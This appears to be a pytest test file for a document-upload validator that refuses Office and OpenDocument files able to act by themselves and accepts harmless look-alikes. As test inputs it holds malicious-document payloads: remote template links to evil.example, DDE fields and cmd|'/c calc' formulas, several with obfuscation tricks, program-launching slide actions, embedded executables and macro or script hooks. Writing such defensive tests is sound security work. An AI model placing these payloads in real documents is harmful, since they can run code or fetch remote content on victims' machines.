"""What acts by itself in files of Office and OpenDocument is refused; what only looks like it is taken."""

import struct

import pytest

from partnerships.documents.tests.acting_files import (
    PROGRAM,
    SCRIPT,
    all_refused,
    all_taken,
    document,
    dropped,
    field,
    linking,
    open_text,
    package,
    pdf,
    relation,
    with_object,
    words,
    workbook,
)
from partnerships.tests.files import PDF, compound, image, office, open_document

pytestmark = pytest.mark.one_database


@pytest.mark.security("C26", "V5")
def test_a_template_or_a_part_from_the_network_is_refused_and_a_hyperlink_is_taken():
    template, fetched, linked = "fetches its template", "from the network", "from another file"
    all_refused("docx", {
        "template": (linking("attachedTemplate", "https://evil.example/a.dotm"), template),
        "on a server": (linking("attachedTemplate", "file://server/share/a.dotx"), template),
        "on a server, another way": (linking("attachedTemplate", "file:///%5C%5Cserver/share/a.dotx"), template),
        "a path of Windows": (linking("attachedTemplate", "\\\\server\\share\\a.dotx"), template),
        "no mode": (linking("attachedTemplate", "http://evil.example/a.dotm", external=False), template),
        "in another encoding": (
            office("docx", {
                "word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/a")
                .decode().encode("utf-16")
            }),
            template,
        ),
        "letters by number": (linking("attachedTempl&#97;te", "h&#116;tp://evil.example/a"), template),
        "picture": (linking("image", "http://evil.example/a.png"), fetched),
        "object": (linking("oleObject", "file:///C:\\a.xlsx"), linked),
        "page": (linking("frame", "https://evil.example/a.html"), linked),
        "part": (linking("subDocument", "b.docx"), linked),
        "import": (linking("aFChunk", "https://evil.example/a.html"), linked),
        "entities": (
            office("docx", {"word/_rels/a.xml.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}),
            "damaged",
        ),
    })  # fmt: skip
    all_taken("docx", {
        "hyperlink": linking("hyperlink", "https://example.org/a?b=c"),
        "to a server": linking("hyperlink", "file://server/share/a.docx"),
        "own template": linking("attachedTemplate", "file:///C:\\Users\\kim\\Templates\\Report.dotx"),
        "on a Mac": linking("attachedTemplate", "file:///Users/kim/Report.dotx"),
        "Normal": linking("attachedTemplate", "Normal.dotm"),
        "picture within": linking("image", "media/image1.png", external=False),
    })  # fmt: skip
    all_taken("xlsx", {"values of a workbook": linking("externalLinkPath", "file:///C:\\a.xlsx", form="xlsx")})


def test_fields_with_dde_are_refused_and_other_fields_are_taken():
    dde = "DDE link"
    quote = field(" QUOTE 68 68 69 ", result="DDE")
    cases = {
        "simple": '<w:fldSimple w:instr=" DDEAUTO c:\\\\a.exe "/>',
        "small letters": '<w:fldSimple w:instr="dde excel"/>',
        "by number": '<w:fldSimple w:instr="&#68;DE excel"/>',
        "in one run": field(" DDEAUTO c:\\\\a.exe "),
        "in several": field(" ", "D", "DEA", "UTO c:\\\\a.exe"),
        "behind blanks": field("<w:r><w:instrText>" + " " * 70_000 + "DDE</w:instrText></w:r>"),
        "in a section of characters": field("<w:r><w:instrText><![CDATA[DDE]]></w:instrText></w:r>"),
        "deleted": "<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>",
        "within another": field(' IF 1 = 1 "', field("DDEAUTO a"), '"'),
        "put together": field(quote, " c:\\\\a.exe"),
        "half put together": field("DD", quote),
        "without an end": '<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO a</w:instrText>',
    }
    parts = ("document2", "header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document")
    refused = {name: (document(body), dde) for name, body in cases.items()}
    refused |= {part: (document(field("DDEAUTO a"), f"word/{part}.xml"), dde) for part in parts}
    refused["in another encoding"] = (
        office("docx", {"word/a.xml": words(field("DDE a")).decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
        dde,
    )
    refused["link"] = (document(field(' LINK Excel.Sheet "C:\\\\a.xlsx" \\a ')), "from another file")
    all_refused("docx", refused)
    harmless = (
        " PAGE ",
        ' TOC \\o "1-3" ',
        ' HYPERLINK "https://example.org/DDE" ',
        "IF 1 = 1",
        " REF DDE \\h ",
        "=2+3",
    )
    all_taken("docx", {
        "fields": document("".join(field(one) for one in harmless)),
        "in each other": document(field(' TOC \\o "1-3" ', result=field(' PAGEREF "a" '))),
        "computed": document(field("=", field("PAGE"), "-1")),
        "a result": document(field(" PAGE ", result="DDE")),
        "words": document("<w:r><w:t>DDEAUTO is old</w:t></w:r>"),
        "typed": document('<w:r><w:instrText xml:space="preserve"> </w:instrText></w:r>'),
    })  # fmt: skip


def test_workbooks_with_dde_or_that_fetch_are_refused_and_formulas_are_taken():
    dde = "DDE link"
    all_refused("xlsx", {
        "link": (workbook('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl/externalLinks/externalLink1.xml"), dde),
        "linked object": (workbook('<oleLink progId="x"/>', "xl/externalLinks/a.xml"), "from another file"),
        "formula": (workbook("<c><f>cmd|'/c calc'!A0</f></c>"), dde),
        "letters by number": (workbook("<c><f>cmd&#124;'/c calc'!A0</f></c>"), dde),
        "far from its beginning": (workbook("<f>" + "a+" * 3000 + "cmd|'/c calc'!A0</f>" + "<c/>" * 30_000), dde),
        "name": (workbook("<definedName>cmd|'/c calc'!A0</definedName>", "xl/names.xml"), dde),
        "fetched": (workbook('<connection refreshOnLoad="1"/>', "xl/connections.xml"), "from the network"),
        "old macros": (office("xlsx", {"xl/_rels/workbook.xml.rels": relation("xlMacrosheet", "a.xml")}), "macros"),
    })  # fmt: skip
    all_taken("xlsx", {
        "formulas": workbook("<c><f>SUM(A1:B2)&amp;\"a|b\"</f></c><c><f>'a|b'!A1</f></c><c><t>a|b &#124; c</t></c>"),
        "connection": workbook('<connection refreshOnLoad="0"/>', "xl/connections.xml"),
        "old drawing": office("xlsx", {"xl/drawings/vmlDrawing1.vml": b"<xml><div>a|b<br></div></xml>"}),
        "pivot": workbook('<pivotCacheDefinition refreshOnLoad="1"/>', "xl/pivot.xml"),
        "hyperlink": linking("hyperlink", "https://example.org", form="xlsx"),
    })  # fmt: skip


def test_slides_that_start_programs_are_refused_and_jumps_are_taken():
    def slide(action: str) -> bytes:
        return office("pptx", {"ppt/slides/slide1.xml": f'<a xmlns:r="r"><b r:id="" action="{action}"/></a>'.encode()})

    all_refused("pptx", {
        "program": (slide("ppaction://program"), "starts a program"),
        "macro": (slide("ppaction://macro?name=a"), "starts a program"),
        "film": (linking("video", "https://evil.example/a.mp4", form="pptx"), "from the network"),
        "control": (linking("control", "../activeX/activeX1.xml", form="pptx", external=False), "control"),
    })  # fmt: skip
    all_taken("pptx", {"jump": slide("ppaction://hlinksldjump"), "file": slide("ppaction://hlinkfile")})


def test_objects_with_programs_are_refused_and_harmless_ones_are_taken():
    program, unseen = "holds a program or an archive", "cannot check"
    sheet, linking_sheet = office("xlsx"), linking("oleObject", "a", form="xlsx")
    acting_pdf = pdf(catalog="/Names << /JavaScript 3 0 R >>") + b"\n" * 4096 + b"%%EOF"
    as_hangul = compound({"FileHeader": b"HWP Document File", "\x01Ole10Native": package("a.exe", b"x")})
    named_twice = dropped("a.txt", SCRIPT, "a.js")
    plain = struct.pack("<II", 0x02000001, 0)
    all_refused("docx", {
        "program": (with_object(dropped("report.pdf", PROGRAM)), program),
        "script": (with_object(dropped("report.js", SCRIPT)), program),
        "shortcut": (with_object(dropped("a.txt", b"L\0\0\0\x01\x14\x02\0" + bytes(90))), program),
        "blanks behind": (with_object(dropped("report.vbs. ", SCRIPT)), program),
        "document with dde": (with_object(dropped("a.docx", document(field("DDE a")))), "DDE link"),
        "pdf with a script": (with_object(compound({"CONTENTS": acting_pdf})), "JavaScript"),
        "also Hangul": (with_object(as_hangul), program),
        "another name": (with_object(named_twice), program),
        "linked": (with_object(compound({"\x01Ole": struct.pack("<II", 0x02000001, 1)})), "from another file"),
        "unknown": (with_object(compound({"\x01Ole10Native": b"\x04\0\0\0\x09\0zz"})), unseen),
        "control of before 2007": (with_object(compound({"\x03OCXNAME": b"x"})), "control"),
        "control": (linking("control", "activeX/activeX1.xml", external=False), "control"),
        "sheet that starts something": (with_object(linking_sheet, "word/embeddings/a.xlsx"), "another file"),
        "page": (with_object(b"\xef\xbb\xbf <!DOCTYPE html><script>a()</script>", "word/afchunk.mht"), program),
        "rich text": (with_object(b"{\\rtf1 a}", "word/a.bin"), program),
        "locked sheet": (with_object(compound({"EncryptedPackage": b"", "EncryptionInfo": b""})), "password"),
    })  # fmt: skip
    all_taken("docx", {
        "sheet of a chart": with_object(sheet, "word/embeddings/Microsoft_Excel_Worksheet.xlsx"),
        "old sheet": with_object(compound({"Workbook": b""})),
        "document in an object": with_object(compound({"Package": sheet, "\x01Ole": plain})),
        "dropped": with_object(dropped("plan.pdf", PDF)),
        "dropped text": with_object(dropped("plan.txt", b"words")),
        "equation": with_object(compound({"Equation Native": b"x"})),
        "painted": with_object(compound({"\x01Ole10Native": b"\x10\0\0\0BM" + bytes(20)})),
        "picture": with_object(image("PNG"), "word/media/image1.png"),
        "drawing": with_object(b'<svg xmlns="http://www.w3.org/2000/svg"/>', "word/media/image2.svg"),
    })  # fmt: skip


def test_open_documents_that_act_are_refused_and_links_are_taken():
    dde, fetched = "DDE link", "from the network"
    evil = 'xlink:href="http://evil.example/a"'
    all_refused("odt", {
        "field": (open_text('<text:dde-connection-decl office:dde-application="cmd"/>'), dde),
        "section": (open_text('<text:section><office:dde-source office:dde-topic="a"/></text:section>'), dde),
        "in styles": (open_text("<text:dde-connection/>", "styles.xml"), dde),
        "formula": (open_text('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>'), dde),
        "in an object": (open_text("<table:dde-link/>", "Object 1/content.xml"), dde),
        "section from elsewhere": (open_text(f"<text:section-source {evil}/>"), fetched),
        "picture": (open_text(f"<draw:image {evil}/>"), fetched),
        "object": (open_text('<draw:object xlink:href="file://server/a.ods"/>'), fetched),
        "template": (open_text(f"<meta:template {evil}/>", "meta.xml"), "fetches its template"),
        "frame": (open_text('<draw:floating-frame xlink:href="a.html"/>'), "from another file"),
        "applet": (open_text('<draw:applet draw:code="a.class"/>'), "control or plug-in"),
        "plug-in": (open_text('<draw:plugin draw:mime-type="application/x-shockwave-flash"/>'), "control or plug-in"),
        "event": (open_text('<script:event-listener xlink:href="vnd.sun.star.script:a.py$b"/>'), "a script"),
        "link": (open_text('<text:a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'), "a script"),
        "program": (open_text('<presentation:event-listener presentation:action="execute"/>'), "a script"),
        "macro": (open_text("<text:execute-macro/>"), "macros"),
        "module": (open_document("odt", {"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
        "python": (open_document("odt", {"Scripts/python/a.py": b"print()"}), "macros"),
        "object with a program": (open_document("odt", {"Object 1": dropped("a.exe", PROGRAM)}), "program"),
        "password": (open_text("<manifest:encryption-data/>", "META-INF/manifest.xml"), "password"),
    })  # fmt: skip
    all_taken("odt", {
        "links": open_text(f'<text:a {evil}/><text:a xlink:href="../b.odt"/><draw:image xlink:href="Pictures/a.png"/>'),
        "film": open_text('<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="Media/a.mp4"/>'),
        "object": open_text('<draw:object xlink:href="./Object 1"/>'),
        "nothing in its scripts": open_text("<office:scripts><office:script/></office:scripts>"),
        "template": open_text('<meta:template xlink:href="../../templates/a.ott"/>', "meta.xml"),
    })  # fmt: skip
    all_taken("odp", {"jump": open_text('<presentation:event-listener presentation:action="next-page"/>', kind="odp")})
    all_taken("ods", {"formula": open_text('<table:table-cell table:formula="of:=SUM([.A1])"/>', kind="ods")})
